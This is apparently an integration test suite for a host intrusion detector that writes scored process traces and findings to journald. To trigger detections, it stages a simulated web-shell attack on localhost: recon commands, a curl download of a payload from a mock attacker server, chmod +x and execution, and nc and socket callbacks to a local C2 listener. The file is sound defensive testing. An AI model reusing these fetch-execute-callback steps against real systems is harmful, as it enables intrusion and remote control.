"""Issue 7 on the real kernel: scored traces in journald, alerts woven in, noise control,
and findings that survive a journald outage.

One spyderd serves the first four tests (they use distinct trace roots: a web server, and
scenario runners that listen on a port); the outage test runs a second spyderd and a
journald of its own in a private mount namespace, so stopping that journald disturbs
nobody.
"""

from __future__ import annotations

import json
import os
import re
import shutil
import socket
import subprocess
import sys
import threading
import time
import urllib.parse
import urllib.request
import uuid
import xml.etree.ElementTree as ET
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path

import pytest
from conftest import REPO, free_port, wait_for
from containers_support import run, runc_bundle
from private_journald import PrivateJournal
from trace_browser import Browser, artifacts_dir, svg_width_px
from trace_scenarios import TestSpyderd, scenario, wait_findings, write_config

pytestmark = pytest.mark.root

THRESHOLD = 40
SETTLE = 6.0  # trace_settle: the whole attack (container included) fits well inside
IDLE = 10.0  # trace_idle: a quiet spell that long ends a trace (the default is an hour)
SUPPRESS = """\
- suppress: quiet maintenance
  reason: the test's maintenance wrapper (a copy of env in the test's /tmp directory)
  ancestor: [spyder-quiet-*]
  rule: ["Test: *", "Program run from a temporary directory"]
"""


@pytest.fixture(scope="module")
def daemon(tmp_path_factory, journald):
    base = tmp_path_factory.mktemp("spyderd-traces")
    (base / "suppress.d").mkdir()
    (base / "suppress.d" / "test.yaml").write_text(SUPPRESS)
    # the maintenance wrapper exists before spyderd starts: a copy written while it runs
    # would be "a downloaded file executed", a finding of its own that opens the trace
    shutil.copy2("/usr/bin/env", base / "spyder-quiet-env")
    cfg = write_config(base, settle=1.0, trace_threshold=THRESHOLD, trace_settle=SETTLE,
                       trace_idle=IDLE, fold_window=60.0, suppressions=[str(base / "suppress.d")],
                       jsonl=str(base / "findings.jsonl"))
    d = TestSpyderd(base, cfg)
    d.start()
    yield d
    d.stop()


# -- the web-shell attack ------------------------------------------------------------------

class Payloads:
    """The attacker's server: serves the payload and counts the connections it receives."""

    def __init__(self, payload: bytes) -> None:
        hits = self.hits = []

        class H(BaseHTTPRequestHandler):
            def do_GET(self):
                hits.append(self.path)
                self.send_response(200)
                self.send_header("Content-Length", str(len(payload)))
                self.end_headers()
                self.wfile.write(payload)

            def log_message(self, *a):
                pass

        self.http = ThreadingHTTPServer(("127.0.0.1", 0), H)
        self.port = self.http.server_address[1]
        threading.Thread(target=self.http.serve_forever, daemon=True).start()
        self.c2 = socket.socket()
        self.c2.bind(("127.0.0.1", 0))
        self.c2.listen(8)
        self.c2_port = self.c2.getsockname()[1]
        self.callbacks = []
        threading.Thread(target=self._accept, daemon=True).start()

    def _accept(self) -> None:
        while True:
            try:
                c, addr = self.c2.accept()
            except OSError:
                return
            self.callbacks.append(addr)
            c.close()

    def close(self) -> None:
        self.http.shutdown()
        self.c2.close()


@pytest.fixture
def attack(tmp_path):
    tag = uuid.uuid4().hex[:8]
    payload = f"/tmp/spyder-payload-{tag}"
    script = (f"#!/bin/sh\nexec {sys.executable} -c 'import socket,sys; "
              "socket.create_connection((\"127.0.0.1\", int(sys.argv[1]))).close()' \"$1\"\n")
    srv = Payloads(script.encode())
    port = free_port()
    web = subprocess.Popen([sys.executable, str(REPO / "tests/integration/attack_server.py"),
                            str(port)])

    def up():
        try:
            socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
            return True
        except OSError:
            return False

    assert wait_for(up, 10), "web server did not start"
    ctr = f"spyder-atk-{tag}"
    bundle = runc_bundle(tmp_path / "bundle",
                         ["sh", "-c", f"id; nc 127.0.0.1 {srv.c2_port} </dev/null; sleep 1"],
                         f"/proc/{os.getpid()}/ns/net", {"name": f"victim-{tag}"})
    steps = ["id", "uname -a", "whoami",
             f"curl -s -o {payload} http://127.0.0.1:{srv.port}/payload",
             f"chmod +x {payload}", f"{payload} {srv.c2_port}",
             f"runc run --bundle {bundle} {ctr} </dev/null"]
    yield {"web": web, "port": port, "srv": srv, "payload": payload, "ctr": ctr,
           "cmd": "; ".join(steps)}
    web.kill()
    web.wait()
    srv.close()
    run("runc", "delete", "-f", ctr, check=False)
    Path(payload).unlink(missing_ok=True)


ATTACK_RULES = {"Shell spawned below a web server", "Test: recon below a web server",
                "Test: download tool below a web server", "Test: chmod +x in /tmp",
                "Test: program run from /tmp", "Test: outbound connection below a web server"}


def test_web_shell_attack_is_one_scored_trace(daemon, attack, tmp_path):
    url = f"http://127.0.0.1:{attack['port']}/?cmd={urllib.parse.quote(attack['cmd'])}"
    assert urllib.request.urlopen(url, timeout=60).read() == b"rc=0\n"
    srv = attack["srv"]
    assert srv.hits == ["/payload"] and len(srv.callbacks) == 2  # host payload + container

    def trace_entries():
        return daemon.entries(SPYDER_KIND="trace",
                              SPYDER_TRACE_ROOT_PID=str(attack["web"].pid))

    assert wait_for(trace_entries, 30), "no trace entry in journald:\n" + \
        daemon.log.read_text()[-3000:]
    time.sleep(SETTLE + 2)  # anything late would make a second entry: wait and look again
    (entry,) = trace_entries()
    tid = entry["SPYDER_TRACE_ID"]
    assert int(entry["SPYDER_TRACE_SCORE"]) > THRESHOLD
    rules = set(entry["SPYDER_TRACE_RULES"].split(","))
    assert ATTACK_RULES <= rules  # the default pack may well see more than the test rules
    findings = daemon.findings("--trace", tid)
    assert {f["rule"] for f in findings} == rules
    assert set(entry["SPYDER_TRACE_FINDINGS"].split()) == {f["id"] for f in findings}
    assert entry["SPYDER_TRACE_ROOT_KIND"] == "inbound" and entry["PRIORITY"] == "3"
    assert int(entry["SPYDER_TRACE_PROCESSES"]) >= 10
    sent = {e["SPYDER_FINDING_ID"] for e in daemon.entries(SPYDER_TRACE_ID=tid,
                                                           SPYDER_KIND="finding")}
    assert sent == {f["id"] for f in findings}  # each finding also went out on its own

    shipped = [json.loads(line) for line in
               (daemon.config.parent / "findings.jsonl").read_text().splitlines()]
    assert [r["score"] for r in shipped if r["type"] == "trace" and r["id"] == tid] == \
        [int(entry["SPYDER_TRACE_SCORE"])]  # the JSON-lines sink got the same, once
    assert {f["id"] for f in findings} <= {r["id"] for r in shipped if r["type"] == "finding"}

    trace = json.loads(daemon.ctl("trace", tid, "-o", "json", check=True).stdout)
    _check_every_step(trace, attack)
    _check_picture(daemon, tid, attack)
    _check_html(daemon, tid, attack, tmp_path)
    tree = daemon.ctl("trace", tid, "--no-pager", check=True).stdout
    assert "!! Test: program run from /tmp (high)" in tree and "<- trace root" in tree
    listed = daemon.json_lines("traces", "--rule", "Test: chmod +x in /tmp")
    assert [t["id"] for t in listed if t["id"] == tid] == [tid]


def _check_every_step(trace: dict, attack: dict) -> None:
    procs = [n for n in trace["nodes"] if n["kind"] == "process"]
    by_id = {n["id"]: n for n in trace["nodes"]}

    def one(pred, what):
        hits = [n for n in procs if pred(n)]
        assert hits, f"{what} missing from the trace: " + json.dumps(
            [(n["name"], n["args"][:3], n.get("container_id", "")[:8]) for n in procs])
        return hits[-1]

    web = one(lambda n: n["pid"] == attack["web"].pid and "attack_server.py" in " ".join(
        n["args"]), "the web server")
    assert trace["root"] == web["id"]
    one(lambda n: n["name"] == "sh" and n["args"][:1] == ["sh"] and not n["container_id"],
        "the web shell")
    for name in ("id", "uname", "whoami", "chmod"):
        one(lambda n, name=name: n["name"] == name and not n["container_id"], name)
    curl = one(lambda n: n["name"] == "curl", "the download")
    payload = one(lambda n: n["exe"] == attack["payload"] or attack["payload"] in n["args"][:1],
                  "the downloaded program")
    out = [by_id[e["dst"]] for e in trace["edges"] if e["kind"] == "connect"]
    assert any(c["remote_port"] == attack["srv"].port and c["process_id"] == curl["id"]
               for c in out), "the download's connection"
    callers = {c["process_id"] for c in out if c["remote_port"] == attack["srv"].c2_port}
    assert len(callers) == 2, "the payload's and the container's outbound connections"
    payload_kids = {e["dst"] for e in trace["edges"] if e["src"] == payload["id"]}
    assert callers & payload_kids, "the payload's own connection"
    ctr = [n for n in procs if n.get("container_id")]
    assert ctr, "no container process in the trace (enrichment missing?)"
    assert {n["container_id"] for n in ctr} == {attack["ctr"]}
    assert "sh" in {n["name"] for n in ctr}
    assert any(n["args"][:1] == ["nc"] for n in ctr)  # busybox runs applets as /proc/self/exe
    assert callers - payload_kids <= {n["id"] for n in ctr}
    findings = {f["process_id"] for f in trace["findings"]}
    assert findings & {n["id"] for n in ctr}, "the container's findings"


def _check_picture(daemon, tid: str, attack: dict) -> None:
    svg = daemon.ctl("trace", tid, "-o", "svg", check=True).stdout
    (artifacts_dir() / "trace-web-shell.svg").write_text(svg)
    (artifacts_dir() / "trace-web-shell.dot").write_text(
        daemon.ctl("trace", tid, "-o", "dot", check=True).stdout)
    root = ET.fromstring(svg)  # valid XML
    ns = "{http://www.w3.org/2000/svg}"
    fills: dict[str, set[str]] = {"host": set(), "container": set()}
    trace = json.loads(daemon.ctl("trace", tid, "-o", "json", check=True).stdout)
    kind = {n["id"]: ("container" if n.get("container_id") else "host")
            for n in trace["nodes"] if n["kind"] == "process"}
    for g in root.iter(f"{ns}g"):
        title = g.find(f"{ns}title")
        if g.get("class") != "node" or title is None or title.text not in kind:
            continue
        shape = next((c for c in g if c.tag in (f"{ns}path", f"{ns}polygon")), None)
        if shape is not None and shape.get("fill"):
            fills[kind[title.text]].add(shape.get("fill"))
    assert fills["host"] and fills["container"], fills
    assert not fills["host"] & fills["container"], fills
    text = " ".join(t.text or "" for t in root.iter(f"{ns}text"))
    assert f"container victim-{attack['ctr'].removeprefix('spyder-atk-')}" in text or \
        f"container {attack['ctr'][:12]}" in text
    assert svg_width_px(svg) <= 1600, "the picture does not fit a 1,600 px screen at 100 %"


def _check_html(daemon, tid: str, attack: dict, tmp_path: Path) -> None:
    """The page in headless chromium: boxes, a click on the download, no network request."""
    page = tmp_path / "trace.html"
    page.write_text(daemon.ctl("trace", tid, "-o", "html", check=True).stdout)
    trace = json.loads(daemon.ctl("trace", tid, "-o", "json", check=True).stdout)
    curl = next(n for n in trace["nodes"] if n["kind"] == "process" and n["name"] == "curl")
    b = Browser(tmp_path / "profile")
    try:
        url = b.open(page)
        boxes = b.js("[...document.querySelectorAll('g.node')].map(g => g.dataset.id)")
        assert trace["root"] in boxes and curl["id"] in boxes
        download = next(f for f in trace["findings"]
                        if f["rule"] == "Test: download tool below a web server")
        b.click(f'div.finding[data-finding="{download["id"]}"]')
        assert b.js("document.querySelectorAll('g.node.chain').length") >= 3
        b.click(f'g.node[data-id="{curl["id"]}"]')
        text = b.js("document.getElementById('details').innerText")
        assert f"pid\t{curl['pid']}" in text, text
        assert b.js("[...document.querySelectorAll('#details .argv code')]"
                    ".map(c => c.textContent)") == curl["args"]
        shot = b.screenshot(artifacts_dir() / "trace-html-web-shell.png")
        assert shot.stat().st_size > 10_000
        assert b.requests == [url], b.requests  # the page itself, nothing else
    finally:
        b.close()


# -- one trace per attack ------------------------------------------------------------------

@pytest.fixture
def server():
    """A long-lived web shell server, and the attacker's payload and C2 servers."""
    port = free_port()
    web = subprocess.Popen([sys.executable, str(REPO / "tests/integration/attack_server.py"),
                            str(port)])

    def up():
        try:
            socket.create_connection(("127.0.0.1", port), timeout=0.2).close()
            return True
        except OSError:
            return False

    assert wait_for(up, 10), "web server did not start"
    script = (f"#!/bin/sh\nexec {sys.executable} -c 'import socket,sys; "
              "socket.create_connection((\"127.0.0.1\", int(sys.argv[1]))).close()' \"$1\"\n")
    srv = Payloads(script.encode())
    yield web, port, srv
    web.kill()
    web.wait()
    srv.close()


def _get(port: int, cmd: str) -> None:
    url = f"http://127.0.0.1:{port}/?cmd={urllib.parse.quote(cmd)}"
    assert urllib.request.urlopen(url, timeout=60).read() == b"rc=0\n"


def test_one_trace_per_attack_on_a_long_lived_server(daemon, server):
    """Two attacks an idle gap apart are two traces of the same server; one attack that
    downloads a file in one request and runs it from the next is one trace."""
    web, port, srv = server
    tag = uuid.uuid4().hex[:6]
    drop = f"/tmp/spyder-drop-{tag}"
    try:
        _get(port, f"id; whoami; sleep 0 spyder-flag-split1-{tag}; true")
        first = wait_findings(daemon, lambda fs: _of(fs, f"spyder-flag-split1-{tag}", 2))
        time.sleep(IDLE + 1)  # a quiet spell longer than findings.trace_idle
        _get(port, f"uname -a; sleep 0 spyder-flag-split2-{tag}; true")
        second = wait_findings(daemon, lambda fs: _of(fs, f"spyder-flag-split2-{tag}", 2))
        _get(port, f"curl -s -o {drop} http://127.0.0.1:{srv.port}/payload; chmod +x {drop}")
        _get(port, f"{drop} {srv.c2_port}")
        assert srv.hits == ["/payload"] and len(srv.callbacks) == 1

        def dropper(fs):
            mine = [f for f in fs if drop in f["message"] or (
                f["rule"] == "Test: outbound connection below a web server"
                and f["root_id"] == first[0]["root_id"] and f["time"] > second[0]["time"])]
            rules = {f["rule"] for f in mine}
            want = {"Test: download tool below a web server", "Test: chmod +x in /tmp",
                    "Test: program run from /tmp", "Test: outbound connection below a web server"}
            return mine if want <= rules else None

        third = wait_findings(daemon, dropper)
    finally:
        Path(drop).unlink(missing_ok=True)
    time.sleep(3)  # the findings settle and go out; a merge may still move one
    by_id = {f["id"]: f for f in daemon.findings()}
    ids = [{by_id[f["id"]]["trace_id"] for f in group} for group in (first, second, third)]
    assert all(len(t) == 1 for t in ids), ids  # each attack in one trace
    t1, t2, t3 = (t.pop() for t in ids)
    assert len({t1, t2, t3}) == 3, (t1, t2, t3)
    roots = {by_id[f["id"]]["root_id"] for f in first + second + third}
    assert len(roots) == 1  # all below the same server
    traces = {t["id"]: t for t in daemon.json_lines("traces")}
    assert traces[t3]["root_pid"] == web.pid and len(traces[t3]["units"]) == 2  # 2 requests
    listed = daemon.ctl("traces", "--no-pager", check=True).stdout
    line = next(x for x in listed.splitlines() if t1 in x)
    assert f"python on :{port} (request from 127.0.0.1:" in line, line  # the root, in words
    merged = [t for t in traces.values() if t.get("merged_into") == t3]
    assert merged, "the run from the second request started a trace of its own first"
    view = json.loads(daemon.ctl("trace", merged[0]["id"], "-o", "json", check=True).stdout)
    assert view["id"] == t3  # the merged id shows the attack's trace
    accepted = [n for n in view["nodes"] if n["kind"] == "connection"
                and n.get("direction") == "in" and n["process_id"] == view["root"]]
    assert len(accepted) == 2, accepted  # its two requests, not every request served


def _of(fs: list[dict], marker: str, n: int) -> list[dict] | None:
    """The findings of the attack whose shell command carries `marker` (at least n)."""
    mine = [f for f in fs if marker in f["message"] or marker in json.dumps(f.get("chain"))]
    return mine if len(mine) >= n else None


# -- a deep chain in plain journalctl -o json ------------------------------------------------

DEEP = """\
import os, subprocess, sys
n, tag, pad = int(sys.argv[1]), sys.argv[2], sys.argv[3]
if n:
    subprocess.run([sys.executable, __file__, str(n - 1), tag, pad], check=True)
else:
    os.execv("/bin/sleep", ["sleep", "0", "spyder-flag-deep-" + tag])
"""


def test_deep_finding_keeps_its_chain_json_in_plain_journalctl(daemon, tmp_path):
    """15 processes below the trace root, each with 400 bytes of arguments: the chain is cut
    to fit, so `journalctl -o json` (without --all) still shows SPYDER_CHAIN_JSON."""
    tag = uuid.uuid4().hex[:6]
    script = tmp_path / "deep.py"
    script.write_text(DEEP)
    runner = scenario([[sys.executable, str(script), "15", tag, "p" * 400]])
    (f,) = wait_findings(daemon, lambda fs: [f for f in fs
                                            if f"spyder-flag-deep-{tag}" in f["message"]])

    def plain_json():
        r = subprocess.run(["journalctl", "-o", "json", f"_PID={daemon.proc.pid}",
                            f"SPYDER_FINDING_ID={f['id']}"], capture_output=True, text=True,
                           check=True)
        return [json.loads(line) for line in r.stdout.splitlines()]

    (entry,) = wait_for(plain_json, 20)
    assert isinstance(entry["SPYDER_CHAIN_JSON"], str), entry["SPYDER_CHAIN_JSON"]
    assert len(entry["SPYDER_CHAIN_JSON"].encode()) < 4096
    chain = json.loads(entry["SPYDER_CHAIN_JSON"])
    assert chain[0]["role"] == "elided" and chain[0]["count"] >= 1  # pytest and above
    assert (chain[1]["role"], chain[1]["pid"]) == ("root", runner)
    subject = next(c for c in chain if c["role"] == "subject")
    assert subject["name"] == "sleep" and subject["pid"] == f["event"]["pid"]
    left_out = sum(c.get("count", 0) for c in chain[2:] if c["role"] == "elided")
    shown = [c for c in chain[2:] if c["role"] in ("ancestor", "subject")]
    assert len(shown) + left_out >= 16  # the 15 levels, the sleep: shown or counted
    assert any(c.get("args_cut") for c in shown)
    text = entry["SPYDER_CHAIN"]
    assert text.startswith("… > python") and f"[{runner}] > " in text, text
    assert text.endswith(f"sleep[{subject['pid']}]")
    assert entry["SPYDER_TRACE_CMD"] == f"spyderctl trace {f['id']}"
    full = json.loads(daemon.ctl("trace", f["id"], "-o", "json", check=True).stdout)
    assert sum(1 for n in full["nodes"] if n["kind"] == "process" and n.get("args")[:1]
               and "deep.py" in " ".join(n["args"])) >= 15  # all of it, one command away


# -- alerts, folding, suppression -----------------------------------------------------------

def test_journal_warning_appears_in_the_findings_trace(daemon):
    token = f"spyder-alert-{uuid.uuid4().hex[:8]}"
    # journald stamps an entry when it receives it: the pause keeps the exec after that, so
    # the entry belongs to the python image and not to the sleep that replaces it
    prog = ("import os, sys, time; from systemd import journal; "
            f"journal.send('disk almost full {token}', PRIORITY=4, SYSLOG_IDENTIFIER='app'); "
            "time.sleep(0.5); "
            "os.execv('/bin/sleep', ['sleep', '0', 'spyder-flag-alert-' + sys.argv[1]])")
    tag = uuid.uuid4().hex[:6]
    scenario([[sys.executable, "-c", prog, tag]])
    (f,) = wait_findings(daemon, lambda fs: [f for f in fs if f"spyder-flag-alert-{tag}"
                                            in f["message"]])

    def alert_in_trace():
        t = json.loads(daemon.ctl("trace", f["id"], "-o", "json", check=True).stdout)
        alerts = [n for n in t["nodes"] if n["kind"] == "alert" and token in n["message"]]
        return (t, alerts[0]) if alerts else None

    got = wait_for(alert_in_trace, 20, interval=0.5)
    assert got, daemon.ctl("trace", f["id"], check=True).stdout
    trace, alert = got
    assert alert["priority"] == 4 and alert["identifier"] == "app"
    (edge,) = [e for e in trace["edges"] if e["dst"] == alert["id"]]
    writer = edge["src"]
    assert edge["kind"] == "alerted"
    nodes = {n["id"]: n for n in trace["nodes"]}
    assert nodes[writer]["args"][:2] == [sys.executable, "-c"]  # the image that logged it
    tree = daemon.ctl("trace", f["id"], check=True).stdout
    assert f"alert <4> app: disk almost full {token}" in tree
    st = json.loads(daemon.ctl("status", "-o", "json", check=True).stdout)
    assert st["alerts"]["state"] == "following" and st["alerts"]["attached"] >= 1
    events = daemon.json_lines("query", f'evt.kind = alert and process.pid = {alert["pid"]}')
    assert any(token in e["event"]["message"] for e in events)


def test_repeats_fold_into_one_finding(daemon):
    tag = uuid.uuid4().hex[:6]
    argv = ["sleep", "0", f"spyder-flag-fold-{tag}"]
    scenario([argv, argv, argv])
    def mine(fs):
        return [f for f in fs if f"spyder-flag-fold-{tag}" in f["message"]
                and f["rule"] == "Test: flagged marker"]

    (f,) = wait_findings(daemon, lambda fs: [f for f in mine(fs) if f["count"] == 3])
    time.sleep(2)
    assert len(mine(daemon.findings())) == 1
    sent = wait_for(lambda: daemon.entries(SPYDER_FINDING_ID=f["id"]), 10)
    assert len(sent) == 1
    assert len([e for e in daemon.entries(SPYDER_RULE="Test: flagged marker")
                if f"spyder-flag-fold-{tag}" in e["MESSAGE"]]) == 1
    st = json.loads(daemon.ctl("status", "-o", "json", check=True).stdout)
    assert st["findings_detail"]["folded"] >= 2


def test_suppression_zeroes_the_trace(daemon, tmp_path):
    """The wrapper and what it runs are suppressed; the wrapper's finding is the trace's first,
    so the trace scores zero, while later findings of the same trace are still sent."""
    tag = uuid.uuid4().hex[:6]
    quiet = daemon.config.parent / "spyder-quiet-env"
    tool = Path(f"/tmp/spyder-sup-{tag}")
    shutil.copy2("/usr/bin/true", tool)
    tool.chmod(0o644)
    try:
        runner = scenario([[str(quiet), "sleep", "0", f"spyder-flag-sup-{tag}"],
                           ["chmod", "+x", str(tool)], [str(tool)]])

        def ready(fs):
            mine = [f for f in fs if tag in f["message"] and f["rule"].startswith("Test: ")]
            rules = {(f["rule"], str(tool) in f["message"]) for f in mine}
            want = {("Test: flagged marker", False), ("Test: chmod +x in /tmp", True),
                    ("Test: program run from /tmp", True)}
            return mine if want <= rules else None

        fs = wait_findings(daemon, ready)
    finally:
        tool.unlink()
    tid = fs[0]["trace_id"]
    assert {f["trace_id"] for f in fs} == {tid}
    marker = next(f for f in fs if f["rule"] == "Test: flagged marker")
    tool_run = next(f for f in fs if f["rule"] == "Test: program run from /tmp"
                    and str(tool) in f["message"])
    assert marker["suppressed"] == "quiet maintenance" and not tool_run["suppressed"]
    time.sleep(SETTLE + 2)
    (tr,) = [t for t in daemon.json_lines("traces") if t["id"] == tid]
    assert (tr["score"], tr["suppressed"], tr["root_pid"]) == (0, "quiet maintenance", runner), [
        (f["rule"], f["suppressed"]) for f in daemon.findings() if f["trace_id"] == tid]
    assert daemon.entries(SPYDER_KIND="trace", SPYDER_TRACE_ID=tid) == []
    sent = {e["SPYDER_FINDING_ID"] for e in daemon.entries(SPYDER_TRACE_ID=tid,
                                                           SPYDER_KIND="finding")}
    assert tool_run["id"] in sent and marker["id"] not in sent
    default = [f["id"] for f in daemon.json_lines("findings") if tag in f["message"]]
    assert marker["id"] not in default  # hidden unless --all
    listed = daemon.ctl("suppressions", str(daemon.config.parent / "suppress.d"),
                        check=True).stdout
    assert re.search(r"quiet maintenance  \[active, [2-9]\d* hits\]", listed), listed
    assert "test.yaml:1:3" in listed and "ancestor: spyder-quiet-*" in listed


# -- journald down, then up -----------------------------------------------------------------

@pytest.fixture
def private(tmp_path):
    j = PrivateJournal(tmp_path)
    j.start()
    yield j
    j.close()


def test_findings_wait_for_journald_and_none_is_lost(private, tmp_path, journald):
    cfg = write_config(tmp_path, settle=0.5, trace_threshold=THRESHOLD, trace_settle=1.0)
    d = TestSpyderd(tmp_path / "d", cfg, prefix=private.enter())
    d.start()
    try:
        def sent(tag: str) -> list[dict]:
            return [e for e in private.entries(_PID=str(d.proc.pid), SPYDER_KIND="finding")
                    if tag in e["MESSAGE"]]

        tag = uuid.uuid4().hex[:6]
        scenario([["sleep", "0", f"spyder-flag-up-{tag}"]])
        assert wait_for(lambda: sent(f"spyder-flag-up-{tag}"), 20), "journald path broken"

        private.stop()
        down = [["sleep", "0", f"spyder-flag-down{i}-{tag}"] for i in range(3)]
        scenario(down)
        wait_findings(d, lambda fs: [f for f in fs if f"down2-{tag}" in f["message"]])

        def sink_down():
            st = json.loads(d.ctl("status", "-o", "json", check=True).stdout)
            return st if st["findings_detail"]["sinks"]["journald"]["errors"] > 0 else None

        st = wait_for(sink_down, 20)
        assert st, "spyderd never noticed journald was gone"
        stored = [f for f in d.findings() if f"-{tag}" in f["message"] and "down" in f["message"]]
        assert len(stored) == 3 and not any(f["sent"] for f in stored)

        private.start()
        got = wait_for(lambda: len(sent(f"-{tag}")) == 4 or None, 30)
        assert got, f"after journald came back: {[e['MESSAGE'] for e in sent(tag)]}\n" + \
            d.log.read_text()[-2000:]
        ids = [e["SPYDER_FINDING_ID"] for e in sent(f"-{tag}")]
        assert len(ids) == len(set(ids)) == 4  # each once
        assert wait_for(lambda: all(f["sent"] for f in d.findings()
                                    if f"-{tag}" in f["message"]), 10)
        assert "journald reachable again" in d.log.read_text()
    finally:
        d.stop()
